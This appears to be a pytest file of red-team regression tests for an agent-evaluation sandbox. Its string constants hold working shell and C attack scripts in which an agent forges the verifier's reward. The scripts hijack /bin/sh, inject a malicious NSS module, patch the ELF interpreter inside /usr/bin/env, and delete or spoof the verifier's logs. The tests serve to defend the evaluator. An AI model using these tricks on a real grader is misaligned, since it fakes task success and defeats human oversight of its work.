"""Attacks a red-team found against the first version of the verifier's runner: the view's
/bin/sh (uv's entry points, its libc probe), an NSS module, and forged or voided verdicts.
Each test is named after its attack and fails if the protection that closes it goes (a
reward above the nop baseline, or a failing trial turned into an exception): the
verifier's own /bin overlay and root, the C library's nsswitch path, the pristine re-check
of a failed bootstrap, a missing /logs/verifier read as no reward.

Run as root (the agent then writes /usr and /etc of its view, as in a container). Every
attack is a shell script the agent runs in its own view; nothing reaches the host.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from sequester.environments.local.episode import Episode

TASKS = Path(__file__).resolve().parent.parent / "examples" / "tasks"
pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (the agent writes its /usr and /etc)")

# 1. /bin/sh is the agent's. uv (0.13) writes the tool environment's entry points
#    (bin/pytest) as "#!/bin/sh" polyglots, so `uvx ... pytest` starts pytest through the
#    agent's /bin/sh, with the verifier's rights, before pytest runs.
BIN_SH_LAUNCHER = r"""
rm -f /usr/bin/sh
cat > /usr/bin/sh <<'X'
#!/usr/bin/bash
[ -w /logs/verifier ] && echo '{"reward": 1.0}' > /logs/verifier/reward.json
exec /usr/bin/dash "$@"
X
chmod 755 /usr/bin/sh
"""

# 2. The same launcher without a /bin/sh: uvx cannot spawn pytest, and the host takes
#    "uvx started, pytest never did" for a runner that lacks a package: an error.
BIN_SH_REMOVED = "rm -f /usr/bin/sh\n"

# 3. /etc/nsswitch.conf is the agent's. The tree's bash looks up the user at start-up
#    ($SHELL is not set), and glibc dlopens "libnss_<service>.so.2": a service name with a
#    slash is a path relative to the working folder (/app), so the module is the agent's.
NSS_MODULE = r"""
mkdir -p /app/libnss_x
cat > /tmp/evil.c <<'X'
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void evil(void) {
    if (access("/logs/verifier", W_OK) == 0) {
        FILE *f = fopen("/logs/verifier/reward.json", "w");
        if (f) { fputs("{\"reward\": 1.0}\n", f); fclose(f); }
    }
}
X
gcc -shared -fPIC -o /app/libnss_x/evil.so.2 /tmp/evil.c
sed -i 's/^passwd:.*/passwd: x\/evil files/' /etc/nsswitch.conf
"""

# 4. uv detects the libc by reading the ELF interpreter (PT_INTERP) of /bin/sh, else of
#    /usr/bin/env, /bin/dash, /bin/ls, and EXECUTES it (no argument, then --version).
#    Here /bin/sh is a working script (so uv looks at /usr/bin/env, whose interpreter is
#    the agent's script); the reward comes from what uv ran, not from /bin/sh.
UV_LIBC_PROBE = r"""
EVIL=/usr/local/lib/evil-ld-xxxx
cat > $EVIL <<'X'
#!/usr/bin/bash
[ -w /logs/verifier ] && echo '{"reward": 1.0}' > /logs/verifier/reward.json
exec /lib64/ld-linux-x86-64.so.2 "$@"
X
chmod +x $EVIL
python3 - "$EVIL" <<'P'
import sys
evil, old = sys.argv[1].encode(), b'/lib64/ld-linux-x86-64.so.2'
assert len(evil) == len(old)
data = open('/usr/bin/env', 'rb').read()
i = data.find(old + b'\0')
open('/tmp/env.new', 'wb').write(data[:i] + evil + data[i + len(old):])
P
cp /tmp/env.new /usr/bin/env && chmod 755 /usr/bin/env
rm -f /usr/bin/sh; printf '#!/usr/bin/dash\nexec /usr/bin/dash "$@"\n' > /usr/bin/sh; chmod 755 /usr/bin/sh
"""

# 5. The program under test (run by the tests with the verifier's rights) removes
#    /logs/verifier: the verifier's init cannot list it and reports an error. The README
#    says such an end is the agent's 0, never an error.
RM_LOGS_VERIFIER = r"""
cat > /app/stats.py <<'X'
import shutil
shutil.rmtree("/logs/verifier", ignore_errors=True)
raise SystemExit(1)
X
"""

# 6. The program under test writes "uvx" on the runner's pipe (fd 3 of the python running
#    the tests, its parent): on a task that never runs uvx, "uvx but no pytest" is taken
#    for a failed bootstrap, an error.
SAY_UVX = r"""
cat > /app/stats.py <<'X'
import os
with open(f"/proc/{os.getppid()}/fd/3", "w") as f:
    f.write("uvx\n")
raise SystemExit(1)
X
"""


def _attack(task: str, script: str, **evaluate) -> tuple[float, float]:
    """(nop's reward, the attack's reward) in one episode; the attack must not raise."""
    with Episode() as ep:
        ep.reset(TASKS / task)
        nop = ep.evaluate(**evaluate).reward
        result = ep.exec(script, timeout=120)
        assert result.exit_code == 0 or result.exit_code is None, result.stdout + result.stderr
        return nop, ep.evaluate(**evaluate).reward


def test_bin_sh_runs_uv_entry_point_launcher():
    nop, reward = _attack("pinned-pytest", BIN_SH_LAUNCHER)
    assert nop == 0.0
    assert reward <= nop, "the agent's /bin/sh started the verifier's pytest and wrote reward.json"


def test_bin_sh_runs_uv_entry_point_launcher_frozen():
    nop, reward = _attack("pinned-pytest", BIN_SH_LAUNCHER, freeze=True)
    assert reward <= nop == 0.0


def test_bin_sh_removed_turns_failing_trial_into_error():
    # raises VerifierCouldNotRun ("uvx never started pytest") today
    nop, reward = _attack("pinned-pytest", BIN_SH_REMOVED)
    assert reward <= nop == 0.0


@pytest.mark.parametrize("task", ["python-csv-stats", "pinned-pytest", "http-kv-server", "c-word-count"])
def test_nsswitch_module_loaded_by_runner_bash(task):
    nop, reward = _attack(task, NSS_MODULE)
    assert nop == 0.0
    assert reward <= nop, "the tree's bash loaded the agent's NSS module, which wrote reward.json"


def test_uv_libc_detection_executes_agent_loader():
    nop, reward = _attack("pinned-pytest", UV_LIBC_PROBE)
    assert nop == 0.0
    assert reward <= nop, "uv executed the ELF interpreter named by the agent's /usr/bin/env"


def test_program_under_test_removes_logs_verifier_is_an_error():
    # raises VerifierCouldNotRun ("FileNotFoundError: ... '/logs/verifier'") today
    nop, reward = _attack("python-csv-stats", RM_LOGS_VERIFIER)
    assert reward <= nop == 0.0


def test_program_under_test_says_uvx_is_an_error():
    # raises VerifierCouldNotRun ("uvx never started pytest") on a task without uvx today
    nop, reward = _attack("python-csv-stats", SAY_UVX)
    assert reward <= nop == 0.0
